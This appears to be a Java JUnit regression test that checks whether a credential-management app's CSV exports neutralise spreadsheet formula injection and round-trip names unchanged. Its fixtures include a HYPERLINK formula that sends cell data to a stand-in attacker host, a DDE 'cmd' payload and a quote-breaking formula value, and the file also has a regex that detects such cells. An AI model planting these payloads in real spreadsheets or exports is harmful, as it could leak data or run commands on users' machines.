package dev.tokenward.sandbox.app.regressions;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.tokenward.sandbox.app.client.Reply;
import dev.tokenward.sandbox.app.system.House;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

/** C22: no export runs in a spreadsheet, and what comes back is what went out. */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@SuppressWarnings("NullAway.Init") // JUnit fills the fields
class C22FormulasTest {
    /** A cell that begins a formula, at its own begin or behind a separator inside it. */
    private static final String FORMULA = "(?m)(^|[,;\"\\t])[=+\\-@\\t\\r\\uFF1D]";

    private static final Map<String, String> CSV = Map.of("Accept", "text/csv");

    private House house;

    @BeforeAll
    void open() {
        house = new House().withoutDirectory();
        Reply put = house.putPeople(Case.text("C22-formula-names.csv"));
        assertThat(put.status()).as(put.text()).isEqualTo(200);
    }

    @AfterAll
    void close() {
        house.close();
    }

    @Test
    void directoryGoesOutWithoutAFormulaAndComesBackUnchangedAgainAndAgain() {
        JsonNode before = people();
        assertThat(before.path("items").findValuesAsText("name"))
                .containsExactlyInAnyOrder(
                        "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
                        "-Morgan",
                        "@SUM(1)",
                        "＝1+1");
        String first = csv("/people");
        assertThat(first).doesNotContainPattern(FORMULA).contains("'-Morgan", "'＝1+1");

        for (int round = 0; round < 2; round++) {
            assertThat(house.putPeople(csv("/people")).status()).isEqualTo(200);
            // the generation stands in it too: nothing was replaced
            assertThat(people()).isEqualTo(before);
            assertThat(csv("/people")).isEqualTo(first);
        }
    }

    @Test
    void credentialsGoOutWithoutAFormulaAndPeopleReadTheTextItself() {
        Reply asked =
                house.api.as(House.QUINN).post("/requests", Case.text("C22-formula-purpose.json"));
        assertThat(asked.status()).as(asked.text()).isEqualTo(201);
        assertThat(asked.get("target")).isEqualTo("+cmd|' /C calc'!A0");
        assertThat(asked.get("purpose")).isEqualTo("ok\",=1+1,\"");
        house.settle();
        assertThat(house.decide(House.SASHA, asked.get("id")).status()).isEqualTo(200);
        house.settle();
        assertThat(house.state(House.QUINN, asked.get("id"))).isEqualTo("ISSUED");

        String sheet = csv("/credentials?view=all");
        assertThat(sheet.lines()).hasSize(2);
        assertThat(sheet).doesNotContainPattern(FORMULA).contains("Target - +cmd|' /C calc'!A0");
        assertThat(house.api.as(House.QUINN).get("/credentials").text())
                .contains("Target - +cmd|' /C calc'!A0");
    }

    @Test
    void personWhoseNameBeginsWithAHyphenKeepsItInJsonAndSlack() {
        Reply asked =
                house.api.as(House.RILEY).post("/requests", House.body(house.issueOf("riley")));
        assertThat(asked.status()).as(asked.text()).isEqualTo(201);
        Reply decided = house.decide(House.MORGAN, asked.get("id"));
        assertThat(decided.status()).isEqualTo(200);
        house.settle();

        assertThat(decided.text()).contains("\"-Morgan\"");
        assertThat(house.api.as(House.SASHA).inbox().says("*-Morgan* approved as manager"))
                .isTrue();
    }

    private JsonNode people() {
        return house.api.as(House.SASHA).get("/people").json();
    }

    /** Its rows end with CR and LF, as the format has it; any other CR would begin a cell. */
    private String csv(String path) {
        Reply reply = house.api.as(House.SASHA).send("GET", path, "", CSV);
        assertThat(reply.header("content-type").orElse("")).startsWith("text/csv");
        return reply.text().replace("\r\n", "\n");
    }
}
